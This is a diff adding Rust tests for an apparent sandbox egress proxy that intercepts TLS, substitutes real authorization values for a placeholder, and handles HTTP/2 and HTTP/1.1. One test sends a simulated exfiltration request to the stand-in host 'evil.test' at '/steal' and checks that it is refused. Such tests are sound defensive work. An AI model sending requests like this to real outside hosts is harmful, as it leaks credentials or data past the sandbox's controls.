@@ -271,8 +271,209 @@ async fn a_client_that_speaks_only_h2_or_trusts_another_ca_gets_nothing_through(
     let r = sandbox(px, &other, &[b"http/1.1"], &request(DOMAIN)).await;
     assert!(r.is_err(), "a leaf verified without the egress CA: {r:?}");
     assert!(relayed.await.unwrap().is_err());
-    // The upstream was never connected to (nothing accepted it; dropped with the test).
+    // The upstream is connected first (its ALPN decides the offer) but sent nothing.
     recorded.abort();
+}
+
+/// What an HTTP/2-capable upstream saw of one request.
+#[derive(Debug, Clone, PartialEq)]
+struct Seen {
+    version: hyper::Version,
+    path: String,
+    authorization: Vec<String>,
+    body: Vec<u8>,
+}
+
+/// An HTTPS server for DOMAIN (a leaf of `issuer`) offering `h2` and `http/1.1`, serving
+/// every connection with hyper in the protocol ALPN chose: it answers each request 200 with
+/// "seen <path>" and records it.
+async fn upstream_h2(
+    issuer: &Issuer<'static, KeyPair>,
+) -> (SocketAddr, Arc<std::sync::Mutex<Vec<Seen>>>) {
+    use http_body_util::{BodyExt, Full};
+    let key = KeyPair::generate().unwrap();
+    let leaf = CertificateParams::new(vec![DOMAIN.to_string()])
+        .unwrap()
+        .signed_by(&key, issuer)
+        .unwrap();
+    let mut config = rustls::ServerConfig::builder_with_provider(provider())
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(
+            vec![leaf.der().clone()],
+            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
+        )
+        .unwrap();
+    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
+    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let record = seen.clone();
+    tokio::spawn(async move {
+        loop {
+            let (tcp, _) = listener.accept().await.unwrap();
+            let acceptor = acceptor.clone();
+            let record = record.clone();
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(tcp).await else {
+                    return;
+                };
+                let h2 = tls.get_ref().1.alpn_protocol() == Some(b"h2");
+                let service = hyper::service::service_fn(
+                    move |req: hyper::Request<hyper::body::Incoming>| {
+                        let record = record.clone();
+                        async move {
+                            let version = req.version();
+                            let path = req.uri().path().to_string();
+                            let authorization = req
+                                .headers()
+                                .get_all("authorization")
+                                .iter()
+                                .map(|v| v.to_str().unwrap().to_string())
+                                .collect();
+                            let body = req.into_body().collect().await.unwrap().to_bytes().to_vec();
+                            let answer = format!("seen {path}");
+                            record.lock().unwrap().push(Seen {
+                                version,
+                                path,
+                                authorization,
+                                body,
+                            });
+                            Ok::<_, std::convert::Infallible>(hyper::Response::new(Full::new(
+                                bytes::Bytes::from(answer),
+                            )))
+                        }
+                    },
+                );
+                let io = hyper_util::rt::TokioIo::new(tls);
+                if h2 {
+                    let _ = hyper::server::conn::http2::Builder::new(
+                        hyper_util::rt::TokioExecutor::new(),
+                    )
+                    .serve_connection(io, service)
+                    .await;
+                } else {
+                    let _ = hyper::server::conn::http1::Builder::new()
+                        .serve_connection(io, service)
+                        .await;
+                }
+            });
+        }
+    });
+    (addr, seen)
+}
+
+/// The sandbox as an HTTP/2 client: TLS to `proxy` trusting the egress CA, offering `h2`
+/// and `http/1.1`; the protocol chosen and a request sender.
+async fn h2_sandbox(
+    proxy: SocketAddr,
+    root: &CertificateDer<'static>,
+) -> (
+    Option<Vec<u8>>,
+    hyper::client::conn::http2::SendRequest<http_body_util::Full<bytes::Bytes>>,
+) {
+    let mut store = rustls::RootCertStore::empty();
+    store.add(root.clone()).unwrap();
+    let mut config = rustls::ClientConfig::builder_with_provider(provider())
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_root_certificates(store)
+        .with_no_client_auth();
+    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
+    let tcp = TcpStream::connect(proxy).await.unwrap();
+    let tls = tokio_rustls::TlsConnector::from(Arc::new(config))
+        .connect(ServerName::try_from(DOMAIN).unwrap(), tcp)
+        .await
+        .unwrap();
+    let alpn = tls.get_ref().1.alpn_protocol().map(|p| p.to_vec());
+    let (send, conn) = hyper::client::conn::http2::handshake(
+        hyper_util::rt::TokioExecutor::new(),
+        hyper_util::rt::TokioIo::new(tls),
+    )
+    .await
+    .unwrap();
+    tokio::spawn(conn);
+    (alpn, send)
+}
+
+async fn h2_get(
+    send: &mut hyper::client::conn::http2::SendRequest<http_body_util::Full<bytes::Bytes>>,
+    authority: &str,
+    path: &str,
+    body: &str,
+) -> (hyper::StatusCode, String) {
+    use http_body_util::BodyExt;
+    let req = hyper::Request::post(format!("https://{authority}{path}"))
+        .header("authorization", PLACEHOLDER)
+        .body(http_body_util::Full::new(bytes::Bytes::from(
+            body.to_string(),
+        )))
+        .unwrap();
+    let resp = send.send_request(req).await.unwrap();
+    let status = resp.status();
+    let text = resp.into_body().collect().await.unwrap().to_bytes();
+    (status, String::from_utf8_lossy(&text).into_owned())
+}
+
+#[tokio::test]
+async fn http2_gets_every_stream_filled_and_other_hosts_refused_per_stream() {
+    let f = fixture();
+    let (up, seen) = upstream_h2(&f.upstream_ca).await;
+    let (px, relayed) = proxy(f.interceptor.clone(), up).await;
+    let (alpn, mut send) = h2_sandbox(px, &f.egress_ca).await;
+    // The upstream took h2, so the sandbox was offered it.
+    assert_eq!(alpn.as_deref(), Some(&b"h2"[..]));
+    let mut a = send.clone();
+    let mut b = send.clone();
+    // Two streams at once on the one connection, then a third: each is rewritten.
+    let (first, second) = tokio::join!(
+        h2_get(&mut a, DOMAIN, "/v1/one", "body one"),
+        h2_get(&mut b, DOMAIN, "/v1/two", "body two"),
+    );
+    assert_eq!(first, (hyper::StatusCode::OK, "seen /v1/one".into()));
+    assert_eq!(second, (hyper::StatusCode::OK, "seen /v1/two".into()));
+    // Another host named inside the TLS: that stream is refused, nothing of it sent.
+    let (status, text) = h2_get(&mut send, "evil.test", "/steal", "x").await;
+    assert_eq!(status, hyper::StatusCode::FORBIDDEN, "{text}");
+    let (status, _) = h2_get(&mut send, &format!("{DOMAIN}:8443"), "/other-port", "x").await;
+    assert_eq!(status, hyper::StatusCode::FORBIDDEN);
+    // ...and the connection goes on.
+    assert_eq!(
+        h2_get(&mut send, DOMAIN, "/v1/three", "").await,
+        (hyper::StatusCode::OK, "seen /v1/three".into())
+    );
+    drop((a, b, send));
+    relayed.await.unwrap().unwrap();
+    let mut seen = seen.lock().unwrap().clone();
+    seen.sort_by(|x, y| x.path.cmp(&y.path));
+    let paths: Vec<_> = seen.iter().map(|s| s.path.as_str()).collect();
+    assert_eq!(paths, ["/v1/one", "/v1/three", "/v1/two"], "{seen:?}");
+    for s in &seen {
+        assert_eq!(s.version, hyper::Version::HTTP_2);
+        assert_eq!(s.authorization, vec![VALUE.to_string()], "{s:?}");
+    }
+    assert_eq!(seen[0].body, b"body one");
+    assert_eq!(seen[2].body, b"body two");
+}
+
+#[tokio::test]
+async fn a_sandbox_that_takes_http1_from_an_h2_offer_gets_an_http1_upstream() {
+    let f = fixture();
+    let (up, seen) = upstream_h2(&f.upstream_ca).await;
+    let (px, relayed) = proxy(f.interceptor.clone(), up).await;
+    let (alpn, answer) = sandbox(px, &f.egress_ca, &[b"http/1.1"], &request(DOMAIN))
+        .await
+        .unwrap();
+    assert_eq!(alpn.as_deref(), Some(&b"http/1.1"[..]));
+    assert!(answer.starts_with("HTTP/1.1 200 OK"), "{answer}");
+    assert!(answer.ends_with("seen /v1/x"), "{answer}");
+    relayed.await.unwrap().unwrap();
+    let seen = seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert_eq!(seen[0].version, hyper::Version::HTTP_11);
+    assert_eq!(seen[0].authorization, vec![VALUE.to_string()]);
 }
 
 #[test]
